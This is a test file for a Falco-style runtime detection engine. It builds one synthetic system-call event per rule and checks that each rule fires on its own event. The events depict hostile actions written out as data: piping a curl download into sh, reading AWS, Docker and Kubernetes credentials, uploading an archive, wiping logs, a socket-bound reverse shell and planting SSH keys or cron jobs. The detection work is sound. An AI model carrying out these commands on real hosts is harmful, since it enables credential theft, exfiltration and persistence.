// SPDX-License-Identifier: Apache-2.0
// The files in the style of others' (test/fixtures/falco-field), and a feed of indicators with lists of
// thousands: each rule fires on the event that it is written for, and not on those of the others.
import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { loadRules } from "../../../host/falco/load.js";
import { openBatch } from "../../../host/wire/batch.js";
import { BatchBuilder, type Slots } from "../../../host/wire/builder.js";
import { indicators } from "./indicators.js";
import { Judge } from "./judge.js";

const FOLDER = fileURLToPath(new URL("../../fixtures/falco-field/", import.meta.url));
const files = readdirSync(FOLDER).map((name) => ({ name, content: readFileSync(FOLDER + name, "utf8") }));

interface Deed {
  readonly type: string;
  readonly process: Slots;
  readonly parent?: string;
  readonly descriptor?: Slots;
  readonly result?: number;
  readonly params?: Slots;
}

const WRITTEN = { flags: 1 | 0o100 }; // O_WRONLY, O_CREAT
const exec = (name: string, args: string, parent = "init", more: Slots = {}): Deed => ({
  type: "execve",
  parent,
  result: 0,
  process: { name, exe: `/usr/bin/${name}`, exepath: `/usr/bin/${name}`, args: args.split(" "), ...more },
});
const open = (name: string, path: string, flags = 0, parent = "init"): Deed => ({
  type: "openat",
  parent,
  result: 3,
  process: { name },
  descriptor: { type: "f", name: path, nameraw: path },
  params: { name: path, flags },
});
const socket = (type: string, name: string, ip: string, port: number, more: Slots = {}): Deed => ({
  type,
  result: 0,
  process: { name },
  descriptor: {
    type: "4",
    name: `${ip}:${port}`,
    l4proto: 6,
    sip: Uint8Array.from(ip.split("."), Number),
    cip: Uint8Array.of(10, 0, 0, 1),
    sport: port,
    cport: 40_000,
    ...more,
  },
});
const call = (type: string, name: string, params: Slots, more: Slots = {}): Deed => ({
  type,
  result: 0,
  process: { name, ...more },
  params,
});

const IS_SERVER = { flags: 2 };
const LOG4J = "java -jar a-service-with-a-name-that-goes-on-and-on.jar";

// One for each rule of the files, by its name.
const DEEDS: Record<string, Deed> = {
  "Credentials of the task asked for": socket("connect", "curl", "169.254.170.2", 80),
  "AWS files read": open("cat", "/home/u/.aws/credentials"),
  "CI job reads credentials": open("node", "/root/.docker/config.json", 0, "jenkins"),
  "CI job pipes a download": exec("bash", "-c curl x | sh", "jenkins"),
  "Runtime socket opened": open("docker", "/var/run/docker.sock"),
  "Namespace entered": call("setns", "nsenter", { nstype: 0 }),
  "Miner started": exec("xmrig", "-o pool"),
  "Connection to a miner port": socket("connect", "kworker", "8.8.8.8", 14_444),
  "Database ran a program": exec("sh", "-c true", "postgres"),
  "Dump of a database": open("pg_dump", "/tmp/all.sql", WRITTEN.flags),
  "Host looked at": exec("whoami", "-", "bash"),
  "Users read": open("cat", "/etc/passwd"),
  "Log removed": call("unlink", "rm", { path: "/var/log/syslog" }),
  "Log emptied": open("sh", "/var/log/syslog", 1 | 0o1000),
  "Archive sent": exec("curl", "-T a.tgz x"),
  "DNS elsewhere": socket("sendto", "dig", "8.8.8.8", 53, { l4proto: 17 }),
  "Hidden file made": open("sh", "/tmp/.x", WRITTEN.flags),
  "Binary written": open("sh", "/usr/bin/x", WRITTEN.flags),
  "Service account token read": open("sh", "/var/run/secrets/kubernetes.io/token"),
  "kubectl in a container": exec("kubectl", "get"),
  "Java spawned a shell": exec("dash", "-c true", "java"),
  "Java asks LDAP or RMI": socket("connect", "java", "8.8.8.8", 389),
  "Debugger attached": call("ptrace", "gdb", { request: 16, pid: 7 }),
  "Memory file": open("sh", "/proc/7/mem", 2),
  "Listener on a high port": socket("listen", "sh", "0.0.0.0", 4000, IS_SERVER),
  "Inbound from outside": socket("accept", "sh", "10.0.0.2", 443, { cip: Uint8Array.of(8, 8, 8, 8), ...IS_SERVER }),
  "Package manager ran": exec("apk", "add", "sh"),
  "Cron written": open("sh", "/etc/cron.d/job", WRITTEN.flags),
  "Unit linked": call("symlink", "ln", { target: "/tmp/x", linkpath: "/etc/systemd/system/x.service" }),
  "Identity changed": call("setuid", "sh", { uid: 0 }, { uid: 1000 }),
  "Setuid bit set": call("chmod", "chmod", { filename: "/tmp/x", mode: 0o4755 }),
  "Interactive shell": exec("zsh", "-i", "init", { tty: 34_816 }),
  "Shell over a socket": { ...socket("dup2", "sh", "8.8.8.8", 9), params: { oldfd: 4, newfd: 0 } },
  "SSH key changed": open("sh", "/home/u/.ssh/authorized_keys", WRITTEN.flags),
  "SSH to many ports": socket("connect", "ssh", "8.8.8.8", 2222),
  "Shouting path": open("sh", "/etc/hostname"),
  "Long command line": exec("java", LOG4J),
  "Web server ran a tool": exec("uname", "-a", "nginx"),
  "Script written below the web root": open("sh", "/var/www/a.php", WRITTEN.flags),
  Indicator: socket("connect", "sh", "12.1.0.1", 443),
  Named: open("sh", "/opt/bad/3999"),
};

test("each rule fires on the event that it is written for", async () => {
  const { ok, rules } = loadRules([...files, { name: "indicators.yaml", content: indicators }]);
  assert.ok(ok);
  assert.equal(rules.map(({ name }) => name).sort(), Object.keys(DEEDS).sort());
  const b = new BatchBuilder();
  for (const { type, process, parent = "init", descriptor, result, params } of Object.values(DEEDS)) {
    const init = b.process({ pid: 1, name: parent, exe: parent, args: [], parent: 0xffffffff });
    const own = { pid: 7, ppid: 1, uid: 0, tty: 0, exe: "x", args: [], container_id: "0123456789ab", parent: init };
    b.record(type, {
      process: b.process({ ...own, ...process }),
      ...(descriptor === undefined ? {} : { descriptor: b.descriptor(descriptor), fd: 3 }),
      ...(result === undefined ? {} : { result }),
      ...(params === undefined ? {} : { params }),
    });
  }
  const fired = (await Judge.of(rules)).judge(openBatch(b.bytes()));
  const silent = Object.keys(DEEDS).filter((name, i) => !fired[i]!.includes(name));
  assert.equal(silent, []);
  const others = Object.keys(DEEDS).flatMap((name, i) =>
    fired[i]!.filter((one) => one !== name).map((one) => `${name}: ${one}`),
  );
  // This rule asks for every open below /etc.
  assert.equal(others, ["Users read: Shouting path", "Cron written: Shouting path"]);
});

test.run();
